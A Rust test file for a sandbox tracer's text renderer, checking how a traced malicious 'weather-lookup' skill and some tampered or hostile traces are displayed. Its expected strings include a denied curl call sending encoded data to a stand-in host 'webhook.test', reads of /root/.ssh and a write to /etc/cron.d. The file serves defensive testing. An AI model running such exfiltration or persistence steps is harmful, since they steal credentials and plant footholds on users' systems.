//! A trace on a terminal, afterwards.
// A test may fail by panicking.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use skillsandbox_test_support::stories;
use skillsandbox_tracer::render::text::{Timeline, write_text};
use skillsandbox_tracer::render::{Glyphs, RenderOptions};
use skillsandbox_tracer::{EventVerdict, Trace, TracedProcess};

fn shown(trace: &Trace, columns: usize, timeline: Timeline) -> String {
    let mut out = Vec::new();
    write_text(&mut out, trace, &RenderOptions::default().columns(columns), timeline).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn an_attack_is_shown_with_what_proves_it() {
    let page = shown(&stories::malicious_weather(), 140, Timeline::Short);
    for text in [
        "skill       weather-lookup-malicious 0.1.0",
        "began       2026-03-14 23:33:43.120 UTC",
        "7 findings, severity critical: no attempt that proves it took effect",
        "T1552.004      Unsecured Credentials: Private Keys",
        "#18 [23:33:43.208] 🔒 DENIED  connect   python3.12(41872)  webhook.test:443 (not_granted)  (3 times)",
        "41872 (2 inside) /usr/bin/python3.12  235 events, 13 denied",
        "└─ 41880 (5 inside) /usr/bin/dash",
        "exec DENIED curl -s https://webhook.test/dWlkPTA=",
        "/root/.ssh",
        "DENIED  /etc/cron.d/updater",
        "environment: variables that were asked for; allowed 3; stripped 41; stripped_secrets 4",
    ] {
        assert!(page.contains(text), "{text}\n{page}");
    }
    assert!(!page.contains("DOUBTFUL"), "{page}");
}

#[test]
fn a_benign_run_is_not_accused() {
    let page = shown(&stories::weather(), 100, Timeline::Short);
    assert!(page.contains("nothing was denied, and nothing looks like an attack"), "{page}");
    assert!(!page.contains("DENIED") && !page.contains("what it amounts to"), "{page}");
}

#[test]
fn a_summary_that_is_not_what_the_events_say_is_doubted() {
    let mut trace = stories::malicious_weather();
    trace.violation_summary.denied = 0;
    trace.events.remove(8);
    let page = shown(&trace, 140, Timeline::Short);
    assert!(page.contains("DOUBTFUL    the summary says 0 denied, its events add up to 13"), "{page}");
    assert!(page.contains("DOUBTFUL    these are 26 of the 27 events that the trace says it has"), "{page}");
    assert!(page.contains("#8 is not in this trace"), "{page}");
}

#[test]
fn a_long_trace_is_cut_and_says_so_and_all_is_all() {
    let trace = stories::many(5_000);
    let short = shown(&trace, 120, Timeline::Short);
    assert!(short.lines().count() < 260, "{}", short.lines().count());
    assert!(short.contains("not shown (--all shows them)"), "{short}");
    // What was denied is there, wherever it lay.
    assert!(short.contains("#4002 "), "{short}");
    let all = shown(&trace, 120, Timeline::All);
    assert!(!all.contains("not shown"));
    let timeline = all.split_once("── timeline\n").unwrap().1;
    assert_eq!(timeline.lines().count(), 5_000);
}

#[test]
fn hostile_text_stays_in_its_line() {
    for columns in [20, 80, 300] {
        for glyphs in [Glyphs::Unicode, Glyphs::Ascii] {
            let mut out = Vec::new();
            let look = RenderOptions::default().columns(columns).glyphs(glyphs);
            write_text(&mut out, &stories::hostile(), &look, Timeline::All).unwrap();
            let page = String::from_utf8(out).unwrap();
            assert!(!page.replace('\n', "").contains(char::is_control));
            assert!(!page.contains(['\u{202e}', '\u{200b}', '\u{2028}', '\u{e0041}']));
            assert!(glyphs == Glyphs::Unicode || page.is_ascii());
        }
    }
}

#[test]
fn nothing_that_somebody_else_chose_begins_a_line() {
    let forged = "complete: every attempt that could be observed";
    let mut trace = stories::malicious_weather();
    trace.header.skill_name = forged.to_owned();
    trace.header.tool = forged.to_owned();
    trace.header.host.insert(forged.to_owned(), forged.to_owned());
    trace.violation_summary.complete = false;
    trace.violation_summary.incomplete_because.push(forged.to_owned());
    trace.violation_summary.classifications[0].message = forged.to_owned();
    trace.violation_summary.classifications[0].mitre_tactic = forged.to_owned();
    for columns in 20..200 {
        let page = shown(&trace, columns, Timeline::All);
        assert!(!page.lines().any(|line| line.starts_with("compl")), "{page}");
    }
}

#[test]
fn processes_in_a_ring_are_each_shown_once() {
    let mut trace = stories::weather();
    for (event, (pid, parent)) in
        trace.events.iter_mut().zip([(7, 8), (8, 9), (9, 7), (10, 10), (11, 4_000_000)])
    {
        let mut process = TracedProcess::new(pid, Some(format!("/bin/p{pid}")));
        process.parent = Some(parent);
        event.process = Some(process);
        event.verdict = Some(EventVerdict::Allowed);
    }
    let page = shown(&trace, 120, Timeline::Short);
    let tree = page.split_once("── processes\n").unwrap().1.split_once("\n\n").unwrap().0;
    for pid in 7..12 {
        assert_eq!(tree.matches(&format!("/bin/p{pid} ")).count(), 1, "{tree}");
    }
}

#[test]
fn a_deep_tree_is_no_deep_recursion() {
    let mut trace = stories::many(3_000);
    for (pid, event) in (1..).zip(&mut trace.events) {
        let mut process = TracedProcess::new(pid, None);
        process.parent = Some(pid - 1);
        event.process = Some(process);
    }
    assert!(shown(&trace, 200, Timeline::Short).contains("3000 ?  1 event"));
}
